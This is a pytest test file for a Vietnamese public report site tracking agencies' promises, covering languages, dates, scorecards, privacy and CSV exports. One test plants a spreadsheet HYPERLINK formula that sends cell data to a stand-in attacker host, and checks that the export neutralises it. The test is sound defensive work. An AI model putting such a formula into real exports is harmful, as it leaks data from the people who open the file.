"""The public report's pages, languages, dates and exports, through the test client."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID

import pytest

from api.reports import inert
from domain.access import Actor, Role
from domain.deadlines import Kind
from domain.delivery import ReminderDelivery
from domain.reminders import Channel, Delivery, Mark, Rung
from service import commands
from tests.api.conftest import Caller, World, created


def page(api: Caller, path: str, status: int = 200, **params: Any) -> str:
    response = api.as_(None).get(path, **params)
    assert response.status_code == status, response.data.decode()[:2000]
    text: str = response.data.decode()
    return text


def update(api: Caller, commitment: str, body: dict[str, Any]) -> None:
    response = api.post(f"/api/v1/commitments/{commitment}/updates", body)
    assert response.status_code == 200, response.json


def remind(api: Caller, commitment: str, recipient: str) -> None:
    """A reminder the sender delivered, recorded as the workers record it."""
    found = api.service.repository.get(UUID(commitment))
    delivery = Delivery(Rung.OVERDUE, found.due_on, Channel.EMAIL)
    at = datetime(2024, 9, 1, 2, 0, tzinfo=UTC)
    ledger = ReminderDelivery.open(found.id, delivery)
    ledger.claim(found.reminders_of(delivery), recipient=recipient, claim="test", attempt=1,
                 at=at, lease=timedelta(minutes=5))
    api.service.save(ledger)
    found.record_reminder_sent(delivery, recipient=recipient, at=at)
    ledger.close(Mark.SENT, at)
    api.service.save(found, ledger)


@pytest.fixture
def report(api: Caller, world: World) -> dict[str, str]:
    """The world, plus a promise kept on time by SGDDT and a candidate nobody confirmed."""
    answer = created(api.post("/api/v1/answers", {
        "question_ids": [world.other_question],
        "responder": {"name": "Bà Trần Thị B", "title": "Giám đốc Sở Giáo dục và Đào tạo",
                      "agency": "SGDDT"},
        "text": "Sở sẽ rà soát biên chế kế toán và báo cáo trong tháng 6.",
    }))["id"]
    kept = created(api.post("/api/v1/commitments", {
        "agency": "SGDDT", "kind": "report", "answer_id": answer, "due_on": "2024-06-30",
        "text": "Rà soát biên chế kế toán các trường, báo cáo trong tháng 6.",
    }))["id"]
    update(api, kept, {"action": "fulfil", "effective_on": "2024-06-20",
                       "note": "Đã có báo cáo rà soát",
                       "evidence": [{"title": "Báo cáo 55/BC-SGDĐT",
                                     "url": "https://sgddt.example.vn/bc55"}]})
    update(api, world.commitment, {"action": "progress", "effective_on": "2024-06-01",
                                   "note": "Đã lấy ý kiến các huyện"})
    update(api, world.commitment, {"action": "extend", "effective_on": "2024-06-15",
                                   "new_due_on": "2024-07-15", "note": "Chờ ý kiến Bộ Y tế"})
    remind(api, world.commitment, "syt@example.vn")
    response = api.post(f"/api/v1/commitments/{kept}/verdicts",
                        {"verdict": "verified", "note": "Đã xem báo cáo"})
    assert response.status_code == 200, response.json
    return {"kept": kept, "answer": answer}


def test_the_front_page_is_vietnamese_by_default(api: Caller, world: World,
                                                  report: dict[str, str]) -> None:
    response = api.as_(None).get("/reports/")
    assert response.status_code == 200
    assert response.headers["Content-Language"] == "vi"
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]
    text = response.data.decode()
    assert '<html lang="vi">' in text
    assert "Ai đã giữ lời" in text
    assert "Sở Y tế" in text and "Sở Giáo dục và Đào tạo" in text
    assert "Hội nghị đối thoại 2024" in text
    # Dates and numbers in the Vietnamese way.
    assert "1 tháng 9, 2024" in text
    assert "100,0%" in text  # SYT: its one promise is overdue
    assert "<svg" in text and 'class="band-overdue"' in text
    assert "<script" not in text


def test_vietnamese_whatever_the_browser_english_by_choice_and_remembered(
        api: Caller, report: dict[str, str]) -> None:
    """An office PC set to English still gets the Vietnamese report; `?lang=en`
    switches, a cookie remembers it on the next visit, `?lang=vi` switches back."""
    english_browser = {"Accept-Language": "en-GB,en;q=0.8"}
    response = api.client.get("/reports/", headers=english_browser)
    assert response.headers["Content-Language"] == "vi"
    assert "Ai đã giữ lời" in response.data.decode()
    assert "commitments_lang" not in response.headers.get("Set-Cookie", "")
    chosen = api.client.get("/reports/", query_string={"lang": "en"})
    assert "commitments_lang=en" in chosen.headers["Set-Cookie"]
    assert "HttpOnly" in chosen.headers["Set-Cookie"]
    for response in (chosen, api.client.get("/reports/agencies/SYT")):
        text = response.data.decode()
        assert response.headers["Content-Language"] == "en"
        assert "Ai đã giữ lời" not in text and "Who kept their word" in text
    text = chosen.data.decode()
    assert "September 1, 2024" in text and "100.0%" in text
    # The workspace reads the same choice.
    assert 'lang="en"' in api.client.get("/workspace/sign-in").data.decode()
    back = api.client.get("/reports/", query_string={"lang": "vi"})
    assert "commitments_lang=vi" in back.headers["Set-Cookie"]
    assert api.client.get("/reports/").headers["Content-Language"] == "vi"


def test_lang_is_kept_on_links(api: Caller, world: World, report: dict[str, str]) -> None:
    response = api.client.get("/reports/", query_string={"lang": "vi"},
                              headers={"Accept-Language": "en"})
    text = response.data.decode()
    assert "Ai đã giữ lời" in text
    assert "/reports/agencies/SYT?lang=vi" in text


def test_the_scorecard_counts_promises_by_timeliness(api: Caller, report: dict[str, str]) -> None:
    overview = api.as_(None).get("/reports/", format="json").json
    assert overview["as_of"] == "2024-09-01"
    assert overview["scorecard"] == {
        "made": 2, "fulfilled": 1, "fulfilled_on_time": 1, "fulfilled_late": 0,
        "fulfilled_by_original_date": 1,
        "pending_within_deadline": 0, "overdue": 1, "partially_fulfilled": 0, "declined": 0,
        "withdrawn": 0, "verified": 1, "disputed": 0, "confirmed_by_asker": 0,
        "contested_by_asker": 0}
    by_code = {row["agency"]: row for row in overview["agencies"]}
    assert by_code["SYT"]["overdue_share"] == 1.0
    assert by_code["SGDDT"]["overdue_share"] == 0.0
    # Neither has the five promises the league needs to rank it.
    assert by_code["SYT"]["rank"] is None
    [dialogue] = overview["dialogues"]
    assert dialogue["questions"] == 2 and dialogue["answered"] == 2
    assert overview["months"][-1] == {"month": "2024-09", "made": 2, "fulfilled": 1}


def test_the_league_ranks_agencies_with_enough_promises(api: Caller, world: World) -> None:
    for n in range(5):
        created(api.post("/api/v1/commitments", {
            "agency": "SGDDT", "kind": "review", "dialogue_id": world.dialogue,
            "due_on": "2024-12-31", "text": f"Cam kết số {n}"}))
    agencies = api.as_(None).get("/reports/", format="json").json["agencies"]
    assert [(a["agency"], a["rank"], a["commitments"]) for a in agencies] == [
        ("SGDDT", 1, 5), ("SYT", None, 1)]
    text = page(api, "/reports/")
    assert "chưa đủ cam kết để xếp hạng" in text


def test_as_of_shows_the_report_as_it_stood(api: Caller, world: World,
                                            report: dict[str, str]) -> None:
    before = api.as_(None).get("/reports/", as_of="2024-06-10", format="json").json
    assert before["as_of"] == "2024-06-10"
    # The SGDDT promise was fulfilled on 20 June; on the 10th it was open and
    # within its deadline, as was the SYT one (due in July).
    assert before["scorecard"]["fulfilled"] == 0
    assert before["scorecard"]["pending_within_deadline"] == 2
    assert before["scorecard"]["verified"] == 0
    text = page(api, "/reports/", as_of="2024-06-10")
    assert "vào cuối ngày 10 tháng 6, 2024" in text
    assert 'value="10/06/2024"' in text and 'placeholder="dd/mm/yyyy"' in text
    assert "as_of=2024-06-10" in text  # links keep the date
    # Typed day/month/year in the form, the same report.
    typed = page(api, "/reports/", as_of="10/06/2024")
    assert "vào cuối ngày 10 tháng 6, 2024" in typed and "as_of=10/06/2024" in typed
    assert api.as_(None).get("/reports/", as_of="10/6/2024", format="json").json[
        "as_of"] == "2024-06-10"
    # Before the dialogue was held there is nothing to show.
    empty = api.as_(None).get("/reports/", as_of="2024-05-01", format="json").json
    assert empty["dialogues"] == [] and empty["scorecard"]["made"] == 0
    page(api, f"/reports/dialogues/{world.dialogue}", status=404, as_of="2024-05-01")


@pytest.mark.parametrize(("params", "field", "words"), [
    ({"as_of": "2030-01-01"}, "as_of", "chưa đến"),
    ({"as_of": "31/02/2024"}, "as_of", "Tính đến ngày: “31/02/2024” không phải là ngày"),
    ({"as_of": "06-01-2024"}, "as_of", "không phải là ngày"),
    ({"format": "odt"}, "format", "không phải giá trị hợp lệ"),
    ({"lang": "fr"}, "lang", "không phải giá trị hợp lệ"),
])
def test_bad_parameters_are_named(api: Caller, report: dict[str, str], params: dict[str, str],
                                  field: str, words: str) -> None:
    text = page(api, "/reports/", status=400, **params)
    assert words in text
    if field != "format":
        as_json = api.as_(None).get("/reports/", **{**params, "format": "json"})
        assert as_json.status_code == 400
        assert field in as_json.json["error"]["fields"]


def test_the_dialogue_page_follows_each_question(api: Caller, world: World,
                                                 report: dict[str, str]) -> None:
    text = page(api, f"/reports/dialogues/{world.dialogue}")
    assert "Bà Nông Thị Nga" in text and "Công đoàn ngành Y tế" in text
    assert "chế độ phụ cấp cho nhân viên y tế thôn bản" in text
    assert "Ông Nguyễn Văn A" in text and "Sở Y tế tiếp thu" in text
    # The overdue promise: badge with days, due date, reminders sent.
    assert "quá hạn · 48 ngày" in text
    assert "Số lần nhắc việc: 1" in text
    # The kept one: fulfilled, verified, with its evidence link.
    assert "đã hoàn thành" in text and "Công đoàn xác nhận" in text
    assert 'href="https://sgddt.example.vn/bc55"' in text
    assert f'/reports/commitments/{report["kept"]}' in text


def test_unanswered_questions_are_marked(api: Caller, world: World) -> None:
    text = page(api, f"/reports/dialogues/{world.dialogue}")
    assert text.count('class="question unanswered"') == 1
    assert "Chưa được trả lời" in text
    english = page(api, f"/reports/dialogues/{world.dialogue}", lang="en")
    assert "No answer has been recorded for this question." in english


def test_the_agency_page_dates_every_step(api: Caller, world: World,
                                          report: dict[str, str]) -> None:
    text = page(api, "/reports/agencies/SYT", lang="en")
    assert "Sở Y tế" in text
    assert "Promise made" in text and "Progress reported" in text
    assert "Jun 1, 2024" in text and "Đã lấy ý kiến các huyện" in text
    assert "Reminder sent" in text and "(overdue)" in text
    whole = api.as_(None).get("/reports/agencies/SYT", format="json").json
    assert whole["agency"]["code"] == "SYT" and whole["total"] == 1
    assert whole["commitments"][0]["days_overdue"] == 48
    assert "Deadline extended" in text and "(new due date: Jul 15, 2024)" in text


def test_the_agency_page_pages_its_promises(api: Caller, world: World) -> None:
    for n in range(55):
        created(api.post("/api/v1/commitments", {
            "agency": "SGDDT", "kind": "review", "dialogue_id": world.dialogue,
            "due_on": (datetime(2024, 7, 1) + timedelta(days=n)).date().isoformat(),
            "text": f"Cam kết số {n}"}))
    first = page(api, "/reports/agencies/SGDDT")
    assert first.count('class="promise"') == 50
    assert '<span class="muted">(55)</span>' in first
    assert "Cam kết số 0<" in first and "Cam kết số 54<" not in first
    [after] = [part.split('"')[0] for part in first.split("after=")[1:2]]
    second = page(api, "/reports/agencies/SGDDT", after=after.replace("&amp;", "&"))
    assert second.count('class="promise"') == 5 and "Cam kết số 54<" in second
    rows = list(csv.reader(io.StringIO(
        api.as_(None).get("/reports/agencies/SGDDT", format="csv").data.decode("utf-8-sig"))))
    assert len(rows) == 56


def test_the_commitment_page_quotes_its_source(api: Caller, world: World,
                                               report: dict[str, str]) -> None:
    text = page(api, f"/reports/commitments/{world.commitment}")
    assert "Sẽ xem xét, nghiên cứu, kiến nghị với cấp có thẩm quyền về phụ cấp." in text
    assert "Bà Nông Thị Nga" in text and "Sở Y tế tiếp thu, sẽ xem xét" in text
    assert "Đưa ra cam kết" in text and "Báo cáo tiến độ" in text
    as_json = api.as_(None).get(f"/reports/commitments/{world.commitment}",
                                format="json").json
    events = [entry["event"] for entry in as_json["commitment"]["timeline"]]
    assert events == ["Made", "ProgressReported", "DeadlineExtended", "ReminderSent"]
    # As of a date, the history stops there.
    earlier = api.as_(None).get(f"/reports/commitments/{world.commitment}",
                                as_of="2024-05-20", format="json").json
    assert [e["event"] for e in earlier["commitment"]["timeline"]] == ["Made"]


def test_missing_and_unconfirmed_commitments_are_not_found(api: Caller, world: World) -> None:
    # What an import leaves for the secretariat: a candidate, nobody's word yet.
    candidate = api.service.execute(commands.MakeCommitment(
        agency="SYT", text="Sẽ nghiên cứu thêm", kind=Kind.STUDY,
        dialogue_id=UUID(world.dialogue), proposed=True), Actor(Role.ADMIN))
    text = page(api, f"/reports/commitments/{candidate.aggregate_id}", status=404)
    assert "candidate nobody has confirmed" in text
    assert "Sẽ nghiên cứu thêm" not in page(api, f"/reports/dialogues/{world.dialogue}")
    assert "Sẽ nghiên cứu thêm" not in page(api, "/reports/agencies/SYT")
    page(api, "/reports/commitments/3f2b0c1e-0000-4000-8000-000000000000", status=404)
    page(api, "/reports/commitments/not-an-id", status=404)
    page(api, "/reports/agencies/NOPE", status=404)


def test_successions_show_both_names(api: Caller, world: World) -> None:
    created(api.post("/api/v1/agencies", {"code": "SNV", "name": "Sở Nội vụ"}))
    response = api.post("/api/v1/agencies/SYT/successor", {"successor_code": "SNV"})
    assert response.status_code in (200, 201), response.json
    old = page(api, "/reports/agencies/SYT")
    assert "Sở Y tế" in old and "Sở Nội vụ" in old
    new = page(api, "/reports/agencies/SNV")
    assert "Sở Y tế</a> → Sở Nội vụ" in new
    # The promise it took over says whose it was.
    assert '<span class="handover">Sở Y tế → Sở Nội vụ</span>' in new
    dialogue = page(api, f"/reports/dialogues/{world.dialogue}")
    assert dialogue.count("Sở Y tế → Sở Nội vụ") == 2  # the old promise and the new
    rows = api.as_(None).get("/reports/agencies/SNV", format="json").json["commitments"]
    assert [row["handover"] for row in rows] == ["Sở Y tế → Sở Nội vụ"]


def test_nothing_private_is_shown(api: Caller, world: World, report: dict[str, str]) -> None:
    created(api.post("/api/v1/dialogues", {
        "title": "Đối thoại riêng", "held_on": "2024-06-01",
        "chair_email": "chutich@example.vn"}))
    token = api.service.issue_token(Role.AGENCY, "SYT")
    paths = ["/reports/", f"/reports/dialogues/{world.dialogue}", "/reports/agencies/SYT",
             f"/reports/commitments/{world.commitment}"]
    for path in paths:
        for fmt in ("html", "json", "csv"):
            if fmt == "csv" and "commitments" in path:
                continue
            body = api.as_(None).get(path, format=fmt).data.decode()
            for secret in ("syt@example.vn", "chutich@example.vn", token, '"via"', "claim"):
                assert secret not in body, (path, fmt, secret)


def test_exports_are_spreadsheet_ready(api: Caller, world: World,
                                       report: dict[str, str]) -> None:
    response = api.as_(None).get("/reports/", format="csv")
    assert response.content_type.startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.data.decode("utf-8")
    assert raw.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(raw.lstrip("\ufeff"))))
    assert {row["Mã cơ quan"] for row in rows} == {"SYT", "SGDDT"}
    assert rows[0]["Đường dẫn"].startswith("http://localhost:8000/reports/agencies/")
    # Headers and words in the reader's language, as on the page.
    dialogue = list(csv.DictReader(io.StringIO(api.as_(None).get(
        f"/reports/dialogues/{world.dialogue}", format="csv",
        lang="en").data.decode("utf-8-sig"))))
    assert sorted(row["Status"] for row in dialogue) == ["fulfilled", "in progress"]
    assert sorted(row["Overdue"] for row in dialogue) == ["No", "Yes"]
    assert any(row["Evidence"] == "https://sgddt.example.vn/bc55" for row in dialogue)
    as_json = json.loads(api.as_(None).get(f"/reports/dialogues/{world.dialogue}",
                                           format="json").data)
    assert [q["answered"] for q in as_json["questions"]] == [True, True]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(
        api: Caller, world: World, start: str) -> None:
    """Issue 15 §3: text anyone typed, starting as a formula would, is exported
    with a leading quote (every CSV goes through one function; a leading tab
    or return never gets this far, since text is trimmed on the way in)."""
    text = f'{start}HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    created(api.post("/api/v1/commitments", {
        "agency": "SYT", "kind": "review", "dialogue_id": world.dialogue,
        "due_on": "2024-08-01", "text": text}))
    public = list(csv.DictReader(io.StringIO(api.as_(None).get(
        "/reports/agencies/SYT", format="csv", lang="en").data.decode("utf-8-sig"))))
    [row] = [r for r in public if "HYPERLINK" in r["Promise"]]
    assert row["Promise"] == "'" + text
    assert all(not value.startswith(("=", "+", "@")) for r in public for value in r.values())
    # Numbers stay numbers: only text is quoted.
    assert any(r["Days overdue"].isdigit() and r["Days overdue"] != "0" for r in public)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_inert_quotes_whatever_a_spreadsheet_would_run(text: str) -> None:
    assert inert(text) == "'" + text


@pytest.mark.parametrize("text", ["Sở Y tế", "1-2", "a=b", "", "'=already"])
def test_inert_leaves_plain_text_alone(text: str) -> None:
    assert inert(text) == text


def test_the_bare_address_leads_to_the_report(api: Caller) -> None:
    response = api.as_(None).get("/")
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/reports/")


def test_recorded_on_is_the_day_where_the_service_is(api: Caller) -> None:
    """Issue 14: a page said "recorded 4/12" beside events of 5/12 (UTC vs Hà Nội)."""
    app = api.client.application
    local_day = app.jinja_env.filters["local_day"]
    with app.app_context():
        assert local_day(datetime(2024, 9, 1, 20, 0, tzinfo=UTC)) == date(2024, 9, 2)
        assert local_day(datetime(2024, 9, 1, 16, 59, tzinfo=UTC)) == date(2024, 9, 1)


def test_a_reminder_shows_from_the_day_it_was_sent(api: Caller, world: World) -> None:
    """Issue 14: an escalation sent in 2026 appeared in as_of=2024-06-30. The
    reminder below is sent on 2024-09-01 (09:00 in Hà Nội) on a promise made
    in May and changed last on 2024-08-10."""
    update(api, world.commitment, {"action": "progress", "effective_on": "2024-08-10"})
    remind(api, world.commitment, "vp@syt.example.vn")
    before, after = "2024-08-31", "2024-09-01"
    listed = {day: api.get("/api/v1/commitments", as_of=day).json["items"][0]
              for day in (before, after)}
    assert (listed[before]["reminders_sent"], listed[after]["reminders_sent"]) == (0, 1)
    one = {day: api.get(f"/api/v1/commitments/{world.commitment}", as_of=day).json
           for day in (before, after)}
    assert (one[before]["reminders_sent"], one[after]["reminders_sent"]) == (0, 1)
    assert one[before]["status"] == "in_progress"

    def timeline(day: str) -> list[str]:
        report = api.as_(None).get(f"/reports/commitments/{world.commitment}", as_of=day,
                                   format="json").json
        return [(e["event"], e["effective_on"]) for e in report["commitment"]["timeline"]]

    assert ("ReminderSent", after) not in timeline(before)
    assert ("ReminderSent", after) in timeline(after)
    history = api.get(f"/api/v1/commitments/{world.commitment}/history").json
    assert [(h["type"], h["effective_on"]) for h in history][-2:] == [
        ("ProgressReported", "2024-08-10"), ("ReminderSent", after)]


def test_a_page_of_a_moment_ago_says_how_far_behind_it_is(api: Caller, world: World) -> None:
    """A reader who names no write may be given the page as rendered a moment
    ago, saying by how many events it is behind; one who names a write sees it."""
    assert api.projector is not None
    api.projector.settle()
    reader = api.client.application.test_client()  # no cookie of the writer's
    pages = api.client.application.extensions["report_pages"]
    pages.seconds = pages.fresh_seconds = 600  # however slow the machine
    first = reader.get("/reports/?format=csv")
    assert first.status_code == 200 and "X-Read-Model-Lag" not in first.headers
    created(api.post("/api/v1/commitments", {
        "agency": "SYT", "kind": "report", "dialogue_id": world.dialogue,
        "due_on": "2024-08-30", "text": "Sẽ báo cáo số giường bệnh còn thiếu."}))
    api.projector.settle()
    again = reader.get("/reports/?format=csv")
    assert again.data == first.data
    assert int(again.headers["X-Read-Model-Lag"]) >= 1
    seen = api.as_(None).get("/reports/", format="csv")
    assert seen.data != first.data and "X-Read-Model-Lag" not in seen.headers
